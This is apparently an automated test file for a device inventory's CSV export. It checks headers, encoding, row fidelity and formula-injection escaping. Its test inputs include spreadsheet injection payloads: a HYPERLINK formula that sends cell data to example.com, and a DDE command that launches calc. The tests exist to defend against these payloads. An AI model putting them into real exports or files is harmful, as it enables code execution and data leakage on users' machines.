import { expect, test } from '../support/app.ts';
import { KNOWING, untilFound, wholeList } from '../support/inventory.ts';

test.use({ appOptions: KNOWING });
test.beforeAll(async ({ api }) => void (await untilFound(await api('admin'))));

const HOSTILE = [
  '=HYPERLINK("https://example.com?"&A1,"click")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(A1)',
  '\t=1+1',
  '"quoted", comma\nand a second row',
];

/** RFC 4180, strictly: the rows as a reader sees them that knows only the standard. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [[]];
  const cells = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/gy;
  for (let found = cells.exec(text); found; found = cells.exec(text)) {
    rows.at(-1)?.push(found[1]?.replaceAll('""', '"') ?? found[2] ?? '');
    if (found[3] === '\r\n') rows.push([]);
    if (found[3] === '' || cells.lastIndex >= text.length) break;
  }
  return rows.filter((row) => row.length > 0);
}

test('exports the rows of a view as a file that spreadsheets read, including Chinese', async ({ api }) => {
  const support = await api('support');
  const response = await support.get('/api/v1/devices.csv?status=offline&sort=name');
  expect(response.status()).toBe(200);
  expect(response.headers()).toMatchObject({
    'content-type': 'text/csv; charset=utf-8',
    'content-disposition': 'attachment; filename="devices.csv"',
    'cache-control': 'private, no-store',
  });
  const text = (await response.body()).toString('utf8');
  expect(text.startsWith('\ufeffdeviceId,unionId,name,status,')).toBe(true);
  const [head = [], ...rows] = parseCsv(text.slice(1));
  const listed = await wholeList<{ deviceId: string; name: string }>(
    support,
    '/api/v1/devices?status=offline&sort=name&limit=200',
  );
  expect(rows.map(([deviceId]) => deviceId)).toEqual(listed.map(({ deviceId }) => deviceId));
  expect(new Set(rows.map(({ length }) => length))).toEqual(new Set([head.length]));
  expect(rows.map((row) => row[head.indexOf('name')])).toEqual(listed.map(({ name }) => name));
  for (const column of ['serial', 'mac', 'ip', 'room', 'group', 'firmware', 'observedAt']) {
    expect(head).toContain(column);
  }
  expect(head.join(' ')).not.toMatch(/cast|share|sip/i);
});

test('a name that looks like a formula stays text, in one row', async ({ api, app }) => {
  const support = await api('support');
  const { deviceId } = await app.scenario('casting');
  const before = await app.simulator.control<{ deviceName: string }>('GET', `/devices/${deviceId}`);
  const read = async (deviceName: string) => {
    await app.simulator.control('PATCH', `/devices/${deviceId}`, { deviceName });
    expect((await support.get(`/api/v1/devices/query?deviceId=${deviceId}&fresh=true`)).status()).toBe(200);
    const text = await (await support.get('/api/v1/devices.csv?status=casting')).text();
    const rows = parseCsv(text.slice(1));
    expect(text.trimEnd().split('\r\n'), 'no line break within a row').toHaveLength(rows.length);
    return rows.find(([id]) => id === deviceId)?.[2] ?? 'no such row';
  };
  for (const name of HOSTILE) {
    const cell = await read(name);
    expect(cell, name).not.toMatch(/^[\s]*[=+\-@\t\r]/);
    expect(cell.replace(/^'/, '').trim()).toContain(name.trim().split('\n')[0]);
  }
  expect(await read('西湖厅 “大屏”')).toBe('西湖厅 “大屏”');
  await read(before.deviceName);
});
